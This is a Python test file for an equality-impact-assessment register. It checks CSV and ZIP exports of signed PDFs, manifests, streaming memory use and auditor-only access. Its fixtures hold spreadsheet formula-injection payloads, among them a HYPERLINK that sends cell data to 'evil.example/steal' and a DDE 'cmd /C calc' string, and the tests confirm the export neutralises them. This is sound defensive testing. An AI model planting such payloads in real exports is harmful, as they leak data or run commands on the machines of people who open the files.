"""Exports of the register: the CSV, and the ZIP of signed PDFs with its manifest."""

import csv
import hashlib
import io
import random
import tracemalloc
import zipfile
from datetime import UTC, datetime

import pytest
from sqlalchemy import func, select

from eqia.extensions import db
from eqia.models import Assessment, Revision
from eqia.records import documents, exports, generate
from eqia.records.register import CSV_HEADER
from tests import factories
from tests.helpers import soup, text, title
from tests.integration.test_register import approve_on

PLACE = "Place & Sustainability"
HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")'
UNICODE = "Zażółć gęślą jaźń — Ελληνικά — Кириллица"


@pytest.fixture
def eqias(app, users, once):
    """Two signed off (one in 2025, one in 2026), one awaiting sign-off, one draft: built once
    a run."""
    return once(lambda: make_eqias(app))


def make_eqias(app) -> dict[str, str]:
    with app.app_context():
        factories.make_directorate(PLACE)
        made = {
            "old": factories.make_eqia(UNICODE, summary="+SUM(A1:A9) is not a formula"),
            "new": factories.make_eqia(HYPERLINK, summary="@cmd|' /C calc'!A0"),
            "waiting": factories.make_eqia("-2+3 waiting", stage="submitted"),
            "draft": factories.make_eqia("\tTabbed draft", stage="complete"),
        }
        refs = {name: a.reference for name, a in made.items()}
        approve_on(refs["old"], datetime(2025, 5, 1, 9, 0, tzinfo=UTC))
        approve_on(refs["new"], datetime(2026, 2, 1, 9, 0, tzinfo=UTC))
    return refs


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_zip(response) -> tuple[zipfile.ZipFile, list[dict]]:
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    assert archive.testzip() is None
    manifest = archive.read("manifest.csv").decode("utf-8-sig")
    return archive, list(csv.DictReader(io.StringIO(manifest)))


class TestCsv:
    def test_the_filtered_register_as_a_spreadsheet(self, clients, eqias):
        response = clients["auditor"].get("/records/register.csv?status=approved&sort=title")
        assert response.status_code == 200
        assert response.is_streamed
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"].startswith(
            'attachment; filename="eqia-register-'
        )
        rows = read_csv(response)
        assert rows[0] == CSV_HEADER
        by_reference = {row[0]: dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]}
        assert set(by_reference) == {eqias["old"], eqias["new"]}
        old = by_reference[eqias["old"]]
        assert old["Title"] == UNICODE
        assert old["Directorate"] == PLACE
        assert old["Project lead"] == "Lee Lead"
        assert old["Status"] == "Signed off"
        assert old["Type of proposal"] == "Service change"
        assert old["Outcome"] == "Adjust the proposal"
        assert old["Signed off (UK time)"] == "2025-05-01 10:00"  # BST
        assert old["Signed off by"] == "Sue Super"
        assert old["Review date"] == "2027-11-30"
        assert old["Submitted (UK time)"]

    def test_cells_a_spreadsheet_would_run_are_neutralised(self, clients, eqias):
        rows = read_csv(clients["auditor"].get("/records/register.csv"))
        cells = {row[0]: row for row in rows[1:]}
        new = dict(zip(CSV_HEADER, cells[eqias["new"]], strict=True))
        assert new["Title"] == "'" + HYPERLINK
        assert new["Summary"] == "'@cmd|' /C calc'!A0"
        old = dict(zip(CSV_HEADER, cells[eqias["old"]], strict=True))
        assert old["Summary"] == "'+SUM(A1:A9) is not a formula"
        assert cells[eqias["waiting"]][1] == "'-2+3 waiting"
        assert cells[eqias["draft"]][1] == "'\tTabbed draft"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)

    def test_search_and_sort_apply(self, clients, eqias):
        rows = read_csv(clients["admin"].get("/records/register.csv?q=waiting"))
        assert [row[0] for row in rows[1:]] == [eqias["waiting"]]
        rows = read_csv(clients["super_user"].get("/records/register.csv?sort=reference&order=asc"))
        assert [row[0] for row in rows[1:]] == sorted(eqias.values())

    def test_many_rows_stream_in_batches(self, app, clients, users):
        with app.app_context():
            generate.generate(1200, seed=3, batch=600)
        rows = read_csv(clients["auditor"].get("/records/register.csv"))
        assert len(rows) == 1201
        assert len({row[0] for row in rows[1:]}) == 1200

    def test_a_filter_with_mistakes_is_not_exported(self, clients, eqias):
        response = clients["auditor"].get("/records/register.csv?approved_from=2026-13-45")
        assert response.status_code == 400
        page = soup(response)
        assert title(page).startswith("Check the filters")
        assert "Signed off from must be a real date" in text(page.select_one("main"))


class TestBulkExport:
    def test_the_signed_pdfs_with_a_manifest_that_matches(self, app, clients, eqias):
        response = clients["auditor"].get("/records/export.zip")
        assert response.status_code == 200
        assert response.is_streamed
        assert response.headers["Content-Type"] == "application/zip"
        assert response.headers["Content-Disposition"].startswith(
            'attachment; filename="eqia-signed-records-'
        )
        archive, manifest = read_zip(response)
        # Only the signed-off EqIAs, in reference order, then the manifest.
        assert [row["Reference"] for row in manifest] == sorted([eqias["old"], eqias["new"]])
        assert archive.namelist() == [row["File"] for row in manifest] + ["manifest.csv"]
        with app.app_context():
            for row in manifest:
                content = archive.read(row["File"])
                assert hashlib.sha256(content).hexdigest() == row["PDF SHA-256"]
                revision = db.session.scalar(
                    select(Revision)
                    .join(Assessment, Assessment.approved_revision_id == Revision.id)
                    .where(Assessment.reference == row["Reference"])
                )
                assert row["Content hash (SHA-256)"] == revision.content_hash
                assert row["Revision"] == str(revision.number) == "1"
                assert row["Signed off by"] == "Sue Super"
                verdict = documents.check(io.BytesIO(content))
                assert verdict.valid, verdict.message
                assert f"This is {row['Reference']} revision 1" in verdict.message
        by_reference = {row["Reference"]: row for row in manifest}
        assert by_reference[eqias["old"]]["Signed off at (UTC)"] == "2025-05-01T09:00:00+00:00"

    def test_the_current_filter_chooses_what_is_exported(self, clients, eqias):
        response = clients["auditor"].get(
            "/records/export.zip?approved_from=1/1/2026&approved_to=2026-12-31"
        )
        archive, manifest = read_zip(response)
        assert [row["Reference"] for row in manifest] == [eqias["new"]]
        assert "2026-01-01-to-2026-12-31" in response.headers["Content-Disposition"]

    def test_nothing_signed_off_gives_only_the_manifest(self, clients, eqias):
        archive, manifest = read_zip(clients["auditor"].get("/records/export.zip?status=draft"))
        assert manifest == []
        assert archive.namelist() == ["manifest.csv"]

    def test_a_filter_with_mistakes_is_not_exported(self, clients, eqias):
        response = clients["auditor"].get("/records/export.zip?status=lost")
        assert response.status_code == 400
        assert "Select a status from the list" in text(soup(response).select_one("main"))


def fake_pdf(size: int = 100_000):
    """Stands in for the PDF record: random bytes (which do not compress), no signing."""
    calls = []

    def pdf_for(item: exports.Approved) -> bytes:
        calls.append(item.reference)
        return random.Random(item.reference).randbytes(size)  # noqa: S311

    return pdf_for, calls


def approved_items(count: int):
    for n in range(count):
        yield exports.Approved(
            assessment_id=n,
            reference=f"EQIA-2026-{n:05d}",
            revision_id=n,
            revision=1,
            approved_by="Sue Super",
            approved_at=datetime(2026, 1, 1, tzinfo=UTC),
            content_hash="0" * 64,
        )


class TestStreaming:
    def test_the_download_starts_before_the_first_pdf_is_drawn(self):
        pdf_for, calls = fake_pdf()
        chunks = exports.stream_zip(approved_items(3), pdf_for)
        first = next(chunks)
        assert first.startswith(b"PK\x03\x04")  # the first entry's local header
        assert calls == []
        rest = b"".join(chunks)
        assert calls == ["EQIA-2026-00000", "EQIA-2026-00001", "EQIA-2026-00002"]
        archive = zipfile.ZipFile(io.BytesIO(first + rest))
        assert archive.testzip() is None
        assert len(archive.namelist()) == 4

    def peak(self, count: int) -> int:
        pdf_for, _calls = fake_pdf()
        tracemalloc.start()
        try:
            for _chunk in exports.stream_zip(approved_items(count), pdf_for):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_memory_stays_flat_however_many_pdfs(self):
        few, many = self.peak(20), self.peak(400)  # 2 MB against 40 MB of PDFs
        assert many < few + 400 * 1024  # the central directory's few hundred bytes a file
        assert many < 3 * 1024 * 1024


class TestCommandLine:
    def test_export_with_a_progress_bar(self, app, eqias, tmp_path):
        out = tmp_path / "records.zip"
        result = app.test_cli_runner().invoke(
            args=["export", "--approved-from", "2025-01-01", "--approved-to", "2025-12-31"]
            + ["--out", str(out)]
        )
        assert result.exit_code == 0, result.output
        assert f"Wrote 1 signed PDF(s) and manifest.csv to {out}" in result.output
        archive = zipfile.ZipFile(out)
        manifest = list(
            csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig")))
        )
        assert [row["Reference"] for row in manifest] == [eqias["old"]]
        content = archive.read(manifest[0]["File"])
        assert hashlib.sha256(content).hexdigest() == manifest[0]["PDF SHA-256"]

    @pytest.mark.parametrize(
        "args, message",
        [
            (["--approved-from", "2026-13-45"], "must be a real date, as YYYY-MM-DD"),
            (["--approved-to", "9999-12-31"], "must be a real date, as YYYY-MM-DD, in 1000 to"),
            (["--approved-from", "２０２６-01-01"], "must be a real date, as YYYY-MM-DD"),
            (
                ["--approved-from", "2026-02-01", "--approved-to", "2026-01-01"],
                "must not be before",
            ),
        ],
    )
    def test_bad_dates(self, app, tmp_path, args, message):
        result = app.test_cli_runner().invoke(args=["export", *args, "--out", str(tmp_path / "x")])
        assert result.exit_code == 2
        assert message in result.output
        assert not (tmp_path / "x").exists()

    def test_a_failure_leaves_no_half_written_zip(self, app, eqias, tmp_path, monkeypatch):
        def broken(_item):
            raise RuntimeError("the database went away")

        monkeypatch.setattr(exports, "signed_pdf", broken)
        out = tmp_path / "records.zip"
        result = app.test_cli_runner().invoke(args=["export", "--out", str(out)])
        assert result.exit_code != 0
        assert list(tmp_path.iterdir()) == []

    def test_generate_eqias(self, app, users):
        result = app.test_cli_runner().invoke(args=["generate-eqias", "--count", "40"])
        assert result.exit_code == 0, result.output
        assert "Generated 40 EqIAs" in result.output
        with app.app_context():
            assert db.session.scalar(select(func.count(Assessment.id))) == 40
            statuses = set(db.session.scalars(select(Assessment.status)))
            assert {"approved", "draft"} <= statuses
            # New EqIAs carry on the references after the generated ones.
            from eqia import workflow
            from eqia.models import User

            lead = db.session.get(User, users["lead"].id)
            fresh = workflow.start("After the generator", lead)
            db.session.commit()
            assert fresh.reference not in set(
                db.session.scalars(select(Assessment.reference).where(Assessment.id != fresh.id))
            )


def test_an_auditor_can_change_nothing_here(app, clients):
    """The register and its exports answer GET only; there is nothing to post to."""
    for rule in app.url_map.iter_rules():
        if rule.endpoint in {"records.register", "records.register_csv", "records.export_zip"}:
            assert rule.methods <= {"GET", "HEAD", "OPTIONS"}
    for url in ("/records/", "/records/register.csv", "/records/export.zip"):
        assert clients["auditor"].post(url).status_code == 405


@pytest.mark.parametrize("who", ["lead", "super_user", "admin"])
def test_only_auditors_bulk_export(clients, who):
    assert clients[who].get("/records/export.zip").status_code == 403
